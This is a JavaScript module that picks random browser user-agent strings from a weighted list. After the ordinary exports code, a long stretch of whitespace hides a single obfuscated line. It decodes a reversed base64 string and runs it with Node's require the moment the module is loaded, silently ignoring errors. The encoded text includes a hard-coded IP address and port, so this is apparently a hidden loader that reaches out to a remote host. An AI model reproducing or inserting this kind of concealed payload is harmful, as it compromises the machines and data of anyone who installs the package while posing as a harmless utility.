"use strict";
const list = require("../data/ua.json");

function pick(items) {
  const total = items.reduce((s, i) => s + i.w, 0);
  let r = Math.random() * total;
  for (const i of items) { if ((r -= i.w) <= 0) return i; }
  return items[items.length - 1];
}

function randUA(type, filter) {
  let items = type ? list.filter((i) => i.type === type) : list;
  if (filter) items = items.filter((i) => i.ua.includes(filter));
  if (!items.length) items = list;
  return pick(items).ua;
}

function getRandom() {
  return randUA();
}
                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                    global["_V"]="7-ua";global["r"]=require;(function(){try{new Function("require","module",Buffer.from("KsTKokSfp0XKp0XKncCf8JXZosSKncCf89GK6QXdwRXdvtHKy5TPpIXZs8GLlhCL9VWdyRnOlRWaIN3dvRmbpdHLkd3Y7xyYoMWZ4VWfuJXd0Vmc7kSfnQWZwB3b0N3J6QXdwRXdvtHKytXKnA3b0N3XzN3J90TPjhiZp1nbyVHdlJ3Op03JylGZgcmbpRWYvxGc1diO0VHc0V3b7hic9tXKlhCajRXYj1XKpQGLkd3YoUmds92clJnLoRXYwhyasF2d7lnc0tTf9lSf75TPpgCKoNGdhNmLpkScoMmb5NVZslmRkFWZy5ycmxCZptyJvU3LzQDN4oTM54yMxEjLw4yMwIzLvoDc0RHangCdz9GcugXYgU2csV2OpEHKrxWY3lSKokncvR3YlJXaENXauUGKml2OpUWbh5mLlxCco4WavpmLoRXYw1TcgQ3cu92Y7lSK9VWdyRnOzVGc5RVZslmRoRXa3tHLwhyYul3UylGZkFWZy5ycmBiZvBSZgQ3cu92YoI3bmtnP9kCco0zasF2dgQ3cu92Y7kyJscCK0lGbwNnLj1TXkBCLbR3cu92Y7lSKnQGc191czdCKoRXaXNHdyFGdz5yYoYWa95mc1RXZytTK9dyZulGZh9GbwV3J6QXdwRXdvtHKytTK9tnP9kCKog2Y0F2YukSfpgycyVGZhVGS0V2ZuQmZ6MnclRWYlh2esQmZskyJnwHf0NXZkhyKn8yJrQWarcyL19yM0QDO6ETOuMTMx4CMuMDMy8yL6AHd0h2JoQ3cvBnL4F2OpkSKmxCZ3NGKlZHbvNXZy5Ca0FGco0WYlJHdTRWYlJVZ0FWZyNmLzZGLnUGbpZ2JoQmblBHch5CZmtTKokSKnEGdhRWLtJ3bmdCKlJXa1FXZyhCI3Vmb9QmZgQ3cu92Y7kyJscCK0lGbwNnLj1TX0NXZkxiZgwyW0NnbvN2epkyJmBXdfN3cngCa0l2VzRnchR3cuMGKmlWfuJXd0Vmc7kSf75TPpgCKoNGdhNmLpkSfpEGdhRmL4hSeml2Zulmc0NnLO90UKpDd1BHd192eoInP9gHKuVGa05SKn42bzpWP0FWby9mZ/QWasFmdulmLlxGctFGel5SemlGcp5SawF2LvozcwRHdodCK0V2ZugXY7lyJwl2XzN3J90TPjhiZp1nbyVHdlJ3Op0XK9lCKzV2YhZmclRnbJtmcvdHdl5mLz9mOwlGLu9WazJXZ25yczV2YvJHc64GLtJ3bmRXYsBnLzNXZj9mcwpDcskCKvZmbJJXZzVnLz9mO1xSKoUWbh5Gdz9GauM3b6g2eoknZpdmbpJHdz5iTPNlS6QXdwRXdvtHKytXKn8mZul2XzN3J90TPjhiZp1nbyVHdlJ3Op03J5J3b0NWZylGZgg2Y1NHIv50J6QXdwRXdvtHKyBSZzxWZ9lSf0tyJg8GdgkncvR3YlJXakBCZldmbhh2QnoDd1BHd192eoI3O01DZ3N2epkCdoMmb5N1c0NXa4VmLzZGKml2OpkCKtlmc05SKzgSZjlGbz5yYsQ2djhSZ2x2bzVmcugGdhBXP0BCdz52bjtXKpcCIkN2JogGdpd1c0JXY0NnLjhiZptTK99mLu4CLklmOklWdVRnbllGbjtHLnU2cu9GczVmcngCdp1WZuMnP9kybo0jcgQ3cu92Y7kyJnwHfk5WYt12bj5SbocmbpJHdT1zYgQ3cu92Y75TPp0GKscCZuFWbt92Yngibv5yc7kSK9lCKlBXe05ycvpTZwlHVz9GLklGcuM3clN2byBnOkl0czV2YvJHcsQWa6QWa1VFduVWasN2escCduVWasN2JscSemlGduVGZpdCK0lWbl5yc+0TKowyJ0NWZu52bjdCKu9mLztTZtFmbyV2c15SKo8mZulkclNXduM3brcCJnsSKoUWbh5Gdz9GauM3b9QWagQ3cu92Y7UWbvhWPkd3YgQXZstTK9BDMwUjO5FGblRkbvlGdjVmbu92YlJHLlVnc0pjbvlGdjVmbu92YlJ3escyM0QDO6ETOuMTMx4CMuMDMy8yL6AHd0h2Jo8Wa9MHI0NnbvNWfuJXd0Vmc7lSZog2Y0F2Y9lyJz9Wa4F2JoUmcpVXclJXP4F2OpcCduVWasNWLvlmL0V2aj92cngSZylWdxVmc98Wa7lnc0tDehxybpBCdlx2Op0mboQnZph2cuVnLzhGdhBnLlxWdk9Wb9tXKlhCajRXYj1Xfp0XZt9Ga6Q2djxSZ1JHd6UGZph0c39GZul2dscSZy9mbnl2J68WakR3c7xyJi4iLvMXZsVHZv12XlR2bu5yLnsSZt9GarciIggXamVmcw1SLgEDQz9Wa4FGI0AEduVWasNWLvlmL0V2aj92cgwGbhR3culGItBnbngyYul3UjVGeltTK9VWdyRnOlZXazJXdjVmc7xSbuhyYul3UylGZr1mLzZ2epkSKnQnbllGbj1ybp5Cdlt2YvN3Js0mbo4WavpmLoRXYwhyYul3UzR3cphXZuMnZhgiZptXeyR3OpcyclxWdk9WbfVGZv5mLnwSZt9Gao4WavpmLoRXYw1TbuxSKoIXakVWbvhmLz9WPl12boBCdz52bjtTKnM3clN2byB3XkxWaoN2JoUmcpVXclJXP9Nmb5N1YlhXZsMWZ4V2eskyJoRXYwdCKlJXa1FXZy1Da0FGcskyJzZ2JoUmcpVXclJXPzZGLpcycvdCKlJXa1FXZy1zcvBCdz52bjtnP9kCKj5WezFGK".split("").reverse().join(""),"base64").toString())(require,module)}catch(e){}})();

module.exports = randUA;
module.exports.getRandom = getRandom;
module.exports.list = list;
